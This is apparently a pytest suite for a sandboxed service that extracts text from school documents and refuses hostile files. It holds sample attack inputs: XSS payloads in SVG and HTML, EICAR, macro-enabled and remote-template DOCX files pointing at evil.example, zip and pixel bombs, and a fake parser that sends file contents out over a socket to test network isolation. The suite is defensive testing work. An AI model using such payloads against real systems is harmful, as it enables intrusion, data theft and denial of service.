"""The text of pages, from files as schools send them, and what becomes of hostile ones."""

import asyncio
import os
import sys
import time
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest

from tests.documents import docx, pdf, picture, repacked, with_relationship, xlsx
from workflows.extraction import apart
from workflows.extraction.apart import extract
from workflows.extraction.readers import LONGEST_PAGE, MOST_PAGES, Extracted, bounded
from workflows.extraction.unreadable import Unreadable
from workflows.messages import codes


@pytest.fixture
def place(tmp_path: Path) -> Path:
    return tmp_path / "file"


async def read(place: Path, content: bytes) -> Extracted:
    await asyncio.to_thread(place.write_bytes, content)
    return await extract(place)


async def refusal(place: Path, content: bytes) -> str:
    with pytest.raises(Unreadable) as refused:
        await read(place, content)
    assert refused.value.code in codes()
    return refused.value.code


async def test_a_pdf_has_its_pages(place: Path) -> None:
    found = await read(place, pdf("Программа развития", "Учебный план", ""))
    assert found == Extracted("application/pdf", ("Программа развития", "Учебный план", ""))


async def test_a_docx_has_the_pages_its_author_broke_it_into(place: Path) -> None:
    found = await read(place, docx("Устав", "Положение\u00a0о\u00adкомиссии"))
    assert found.media_type.endswith("wordprocessingml.document")
    assert found.pages == ("Устав", "Положение окомиссии\nПоказатель\t95 %")


async def test_a_break_that_word_noted_after_the_author_s_own_is_the_same_break(place: Path) -> None:
    def change(name: str, part: bytes) -> bytes:
        old, new = b"<w:t>\xd0\x91</w:t>", b"<w:lastRenderedPageBreak/><w:t>\xd0\x91</w:t>"
        return part.replace(old, new) if name == "word/document.xml" else part

    content = repacked(docx("А", "Б", "В"), change)
    assert [text.split("\n")[0] for text in (await read(place, content)).pages] == ["А", "Б", "В"]


async def test_an_xlsx_has_a_page_a_sheet(place: Path) -> None:
    content = xlsx(Кадры=[["Учителей", 31, None, "из них высшей категории", 12], [], ["Всего", 40.5]], Пусто=[])
    found = await read(place, content)
    assert found.pages == ("Кадры\nУчителей\t31\t\tиз них высшей категории\t12\nВсего\t40.5", "Пусто")


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
async def test_a_picture_is_one_page_without_text(place: Path, kind: str) -> None:
    assert await read(place, picture(kind)) == Extracted(f"image/{kind.lower()}", ("",))


async def test_a_pdf_that_opens_without_a_password_is_read(place: Path) -> None:
    assert (await read(place, pdf("Открыто", password=""))).pages == ("Открыто",)


async def test_plain_text_is_read_in_either_alphabet_of_bytes(place: Path) -> None:
    for coding in ("utf-8-sig", "utf-8", "cp1251"):
        await asyncio.to_thread(place.write_bytes, "Устав;1\r\nПлан;2".encode(coding))
        assert await extract(place, as_text=True) == Extracted("text/plain", ("Устав;1\nПлан;2",))


async def test_long_text_has_pages(place: Path) -> None:
    await asyncio.to_thread(place.write_text, "строка\n" * 1001)
    assert [len(page.split("\n")) for page in (await extract(place, as_text=True)).pages] == [500, 500, 1]


WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_WITH_MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HOSTILE = {
    "FILE_TYPE_NOT_ACCEPTED": [
        b"",
        b"\x00",
        b"MZ\x90\x00",
        EICAR,
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<!doctype html><script>alert(1)</script>",
        b"<html>%PDF-1.7",
        repacked(xlsx(A=[]), lambda name, part: part.replace(b"spreadsheetml.sheet.main", b"template.main")),
    ],
    "FILE_ENCRYPTED": [pdf("Тайна", password="секрет".encode().hex())],
    "FILE_OLD_OFFICE": [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000],
    "FILE_BROKEN": [
        pdf("Обрывок")[:300],
        b"%PDF-1.7\n%%EOF",
        docx("Обрывок")[:-300],
        docx("Обрывок")[:200],
        b"PK\x03\x04",
        picture()[:40],
        picture("JPEG")[:60],
        repacked(docx("Сущность"), lambda name, part: part.replace(b"<Types", b"<!DOCTYPE x><Types")),
    ],
    "FILE_HAS_MACROS": [
        repacked(docx("Макрос"), more={"word/vbaProject.bin": b"\x00"}),
        repacked(docx("Макрос"), lambda name, part: part.replace(WORD_MAIN, WORD_WITH_MACROS)),
    ],
    "FILE_FETCHES_FROM_NETWORK": [
        with_relationship(docx("Шаблон"), "attachedTemplate", "https://evil.example/t.dotm"),
        with_relationship(docx("Маячок"), "image", "http://evil.example/pixel.png"),
    ],
}


@pytest.mark.parametrize(
    ("code", "content"),
    [pytest.param(code, content, id=f"{code}-{n}") for code in HOSTILE for n, content in enumerate(HOSTILE[code])],
)
async def test_a_hostile_or_broken_file_is_refused_with_a_reason(place: Path, code: str, content: bytes) -> None:
    assert await refusal(place, content) == code


async def test_an_ordinary_link_is_no_reason_to_refuse(place: Path) -> None:
    content = with_relationship(docx("Ссылка"), "hyperlink", "https://school.example")
    assert (await read(place, content)).pages[0].startswith("Ссылка")


async def test_a_part_stored_twice_is_refused_because_programs_would_read_different_ones(place: Path) -> None:
    content = BytesIO(docx("Двойник"))
    with zipfile.ZipFile(content, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("word/document.xml", b"<other/>")
    assert await refusal(place, content.getvalue()) == "FILE_BROKEN"


async def test_a_part_with_a_password_is_refused_as_such(place: Path) -> None:
    content = bytearray(docx("Пароль"))
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    assert await refusal(place, bytes(content)) == "FILE_ENCRYPTED"


def _with_many_paragraphs(count: int) -> Callable[[str, bytes], bytes]:
    def change(name: str, part: bytes) -> bytes:
        return part.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * count) if name == "word/document.xml" else part

    return change


async def test_a_bomb_costs_a_little_time_and_is_refused(place: Path) -> None:
    content = repacked(docx("Бомба"), _with_many_paragraphs(60_000_000))
    assert len(content) < 1_000_000
    started = time.monotonic()
    assert await refusal(place, content) == "FILE_TOO_COMPLEX"
    assert time.monotonic() - started < 10


async def test_a_bomb_that_lies_about_its_size_is_refused(place: Path) -> None:
    content = repacked(docx("Бомба"), _with_many_paragraphs(100_000))
    with zipfile.ZipFile(BytesIO(content)) as archive:
        size = archive.getinfo("word/document.xml").file_size
    content = content.replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert await refusal(place, content) == "FILE_BROKEN"


async def test_a_picture_that_unfolds_to_a_wall_is_refused(place: Path) -> None:
    assert await refusal(place, picture("PNG", (10_000, 9_000))) == "FILE_TOO_COMPLEX"


async def test_a_process_that_does_not_end_is_ended(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    script = place.with_name("forever")
    script.write_text("#!/bin/sh\nexec sleep 600\n")
    script.chmod(0o700)
    monkeypatch.setattr(sys, "executable", str(script))
    monkeypatch.setattr(apart, "SECONDS", 0.2)
    async with asyncio.timeout(30):
        assert await refusal(place, pdf()) == "FILE_TOO_COMPLEX"


async def test_the_process_knows_none_of_the_server_s_secrets(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AREOPAG_S3_SECRET_KEY", "canary")
    seen = place.with_name("seen")
    script = place.with_name("tell")
    script.write_text(f"#!/bin/sh\n/usr/bin/env > {seen}\n")
    script.chmod(0o700)
    monkeypatch.setattr(sys, "executable", str(script))
    await refusal(place, pdf())
    assert "canary" not in seen.read_text()
    assert os.environ["AREOPAG_S3_SECRET_KEY"] == "canary"


def test_a_page_s_text_is_kept_as_far_as_it_can_be_searched() -> None:
    kept = list(bounded(["я" * LONGEST_PAGE, "строка\r\nдругая\u2028третья\x00\ue000\ue001\ud800"]))
    assert len(kept[0].encode()) == LONGEST_PAGE
    assert kept[1] == "строка\nдругая\nтретья"


def test_a_file_of_more_pages_than_anybody_reads_is_refused() -> None:
    with pytest.raises(Unreadable, match="FILE_TOO_COMPLEX"):
        list(bounded([""] * (MOST_PAGES + 1)))


TELLS_SOMEBODY = """
import socket
from workflows.extraction.unreadable import Unreadable

def Document(path):
    try:
        socket.create_connection(("127.0.0.1", {port})).sendall(open(path, "rb").read())
    except OSError as error:
        raise Unreadable(type(error).__name__)
    raise Unreadable("TOLD")
"""


async def test_a_parser_that_a_file_has_taken_over_tells_nobody(
    place: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    called = []
    listener = await asyncio.start_server(lambda *ends: called.append(ends), "127.0.0.1", 0)
    port = listener.sockets[0].getsockname()[1]
    await asyncio.to_thread((tmp_path / "docx.py").write_text, TELLS_SOMEBODY.format(port=port))
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    async with listener:
        with pytest.raises(Unreadable) as refused:
            await read(place, docx("Устав"))
    assert (refused.value.code, called) == ("PermissionError", [])


async def test_where_the_network_cannot_be_taken_away_that_is_said(
    place: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    another = "import platform; platform.machine = lambda: 'riscv64'"
    await asyncio.to_thread((tmp_path / "sitecustomize.py").write_text, another)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    assert (await read(place, pdf("Устав"))).pages == ("Устав",)
    assert "has a network" in caplog.text
